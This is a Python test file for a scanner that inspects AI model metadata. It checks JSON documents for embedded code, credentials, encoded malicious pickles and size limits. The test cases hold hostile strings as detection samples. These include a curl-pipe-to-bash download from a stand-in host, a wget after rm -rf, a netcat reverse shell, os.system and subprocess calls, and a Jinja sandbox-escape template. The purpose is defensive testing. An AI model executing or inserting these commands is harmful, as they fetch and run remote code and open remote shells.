"""JSON documents and metadata strings: code, credentials, hidden pickles, depth and size bounds."""

from __future__ import annotations

import base64
import json
import pickle
from pathlib import Path

import pytest

from modelshield.core.findings import Severity
from modelshield.scanner.detect import detect
from modelshield.scanner.registry import Format
from tests.scanner.formats.conftest import EVIL_PICKLE, of, rules, scan_bytes


def _doc(**values: object) -> bytes:
    return json.dumps({"model_type": "llama", **values}).encode()


# ---- detection by content -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b'{"a": 1}', Format.JSON),
        (b'\xef\xbb\xbf  {\n "a": [1, 2]}', Format.JSON),
        (b"[1, 2, 3]", Format.JSON),
        (b'[{"name": "x"}]', Format.JSON),
        (b"{{ messages }}", Format.JINJA),
        (b"{% for m in messages %}{{ m }}{% endfor %}", Format.JINJA),
        (b"chat_template: '{{ x }}'\n", Format.YAML),
        (b"[section]\nkey = value\n", Format.TEXT),
        (b"plain notes with {braces}\n", Format.TEXT),
        (b"{{ opened but never closed", Format.TEXT),
        (b'{"a": "\x00"}', Format.UNKNOWN),
    ],
)
def test_documents_are_recognised_by_content(data: bytes, expected: Format) -> None:
    assert detect(memoryview(data)) is expected


def test_a_template_far_into_a_text_file_is_found() -> None:
    data = b"x" * (3 << 20) + b"{{ y }}"
    assert detect(memoryview(data)) is Format.JINJA


# ---- metadata strings ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("import os; os.system('echo pwned')", "Python import of a system module"),
        ("__import__('subprocess').call(['id'])", "Python evaluation call"),
        ("exec(base64.b64decode('cHJpbnQoMSk='))", "Python evaluation call"),
        ("subprocess.run(['curl', 'x'])", "Python call of a process or file function"),
        ("rm -rf /tmp/x && wget http://bad.example/s.sh", "shell removal of files"),
        ("curl -s https://bad.example/x.sh | bash", "pipe into a shell"),
        ("chmod 777 /tmp/payload", "shell permission change"),
        ("nc -e /bin/sh 10.0.0.1 4444", "netcat with a command"),
        ("<script>fetch('http://x')</script>", "HTML script"),
    ],
)
def test_code_in_metadata_is_medium(tmp_path: Path, value: str, kind: str) -> None:
    result = scan_bytes(tmp_path, _doc(notes=value))
    [finding] = of(result, "METADATA-CODE")
    assert finding.severity is Severity.MEDIUM
    assert kind in finding.evidence["kinds"]


@pytest.mark.parametrize(
    "value",
    [
        "Load it with `from transformers import AutoModel`.",
        "https://huggingface.co/meta-llama/Llama-3.1-8B",
        "Trained with the import of 3M documents; evaluate on MMLU",
        "gelu_pytorch_tanh",
        "Remove the -rf flag",
        "sk-learn-compatible-estimator-wrapper",
        "sha256:" + "ab" * 32,
    ],
)
def test_ordinary_metadata_is_clean(tmp_path: Path, value: str) -> None:
    assert scan_bytes(tmp_path, _doc(notes=value)).findings == ()


@pytest.mark.parametrize(
    ("key", "value", "kind"),
    [
        ("notes", "key: sk-proj-4fT9xQ2mZ8vL1nB7cR3sK6yH0wE5uJ", "OpenAI"),
        ("token", "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3k", "Hugging Face"),
        ("notes", "AKIAIOSFODNN7EXAMPLE", "AWS"),
        ("notes", "-----BEGIN RSA PRIVATE KEY-----\nMIIE...", "private key"),
        ("api_key", "a1b2c3d4e5f6g7h8", "secret-named"),
        ("exfil_key", "SECRET_API_KEY_12345", "secret-named"),
    ],
)
def test_credentials_are_medium(tmp_path: Path, key: str, value: str, kind: str) -> None:
    [finding] = of(scan_bytes(tmp_path, _doc(**{key: value})), "METADATA-CREDENTIAL")
    assert kind in finding.evidence["kind"]
    assert value not in finding.message and value not in finding.evidence["value"]


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("api_key", "<YOUR_API_KEY>"),
        ("api_key", "${OPENAI_API_KEY}"),
        ("pad_token", "<pad>"),
        ("label_key", "labels"),
        ("checksum_key", "d41d8cd98f00b204e9800998ecf8427e"),
        ("private_key", "keys/model.pem"),
    ],
)
def test_placeholders_digests_and_token_keys_are_no_credentials(
    tmp_path: Path, key: str, value: str
) -> None:
    assert scan_bytes(tmp_path, _doc(**{key: value})).findings == ()


@pytest.mark.parametrize("encoding", ["base64", "hex"])
def test_encoded_pickle_in_a_string_is_analysed(tmp_path: Path, encoding: str) -> None:
    text = base64.b64encode(EVIL_PICKLE).decode() if encoding == "base64" else EVIL_PICKLE.hex()
    result = scan_bytes(tmp_path, _doc(state=text))
    [wrapper] = of(result, "METADATA-EMBEDDED-PICKLE")
    assert wrapper.severity is Severity.HIGH
    assert wrapper.evidence["encoding"] == encoding
    assert "os.system" in wrapper.evidence["imports"]
    inner = of(result, "PICKLE-CALL-DANGEROUS")
    assert inner and inner[0].location.members == (f"<{encoding} pickle>",)


def test_harmless_encoded_pickle_is_informational(tmp_path: Path) -> None:
    text = base64.b64encode(pickle.dumps({"a": [1, 2]})).decode()
    [wrapper] = of(scan_bytes(tmp_path, _doc(state=text)), "METADATA-EMBEDDED-PICKLE")
    assert wrapper.severity is Severity.INFO


# ---- bounds --------------------------------------------------------------------------------


def test_json_nested_a_million_deep_is_a_limit_finding(tmp_path: Path) -> None:
    result = scan_bytes(tmp_path, b"[" * 1_000_000 + b"]" * 1_000_000)
    assert rules(result) == {"SCAN-LIMIT"}
    assert result.status == "incomplete"


def test_json_deeper_than_the_structure_limit_is_incomplete(tmp_path: Path) -> None:
    nested: object = "import os; os.system('x')"
    for _ in range(30):
        nested = {"a": nested}
    result = scan_bytes(
        tmp_path,
        json.dumps({"top": "import os; os.system('y')", "deep": nested}).encode(),
        max_structure_depth=10,
    )
    assert "SCAN-LIMIT" in rules(result)
    assert len(of(result, "METADATA-CODE")) == 1  # the shallow one was analysed


def test_document_above_the_size_limit_is_not_read(tmp_path: Path) -> None:
    result = scan_bytes(tmp_path, _doc(x="y" * 5000), max_document_bytes=1000)
    assert rules(result) == {"SCAN-LIMIT"}
    assert result.bytes_read == 0


def test_broken_json_with_a_template_is_still_analysed(tmp_path: Path) -> None:
    data = b'{"chat_template": "{{ x.__class__.__mro__ }}", trailing-garbage'
    result = scan_bytes(tmp_path, data)
    assert result.format == "json"
    assert "TEMPLATE-SANDBOX-ESCAPE" in rules(result)


@pytest.mark.parametrize("encoding", ["base64", "hex"])
def test_encoded_pickle_above_the_limit_is_not_decoded(tmp_path: Path, encoding: str) -> None:
    blob = EVIL_PICKLE + b"\0" * 200
    text = base64.b64encode(blob).decode() if encoding == "base64" else blob.hex()
    result = scan_bytes(tmp_path, _doc(state=text), max_embedded_scan_bytes=64)
    [limit] = of(result, "SCAN-LIMIT")
    assert limit.evidence["limit"] == "max_embedded_scan_bytes"
    assert "PICKLE-CALL-DANGEROUS" not in rules(result)


def test_documents_with_too_many_values_are_not_parsed(tmp_path: Path) -> None:
    result = scan_bytes(tmp_path, json.dumps(["a"] * 100).encode(), max_document_values=50)
    assert rules(result) == {"SCAN-LIMIT"}
    assert of(result, "SCAN-LIMIT")[0].evidence["limit"] == "max_document_values"
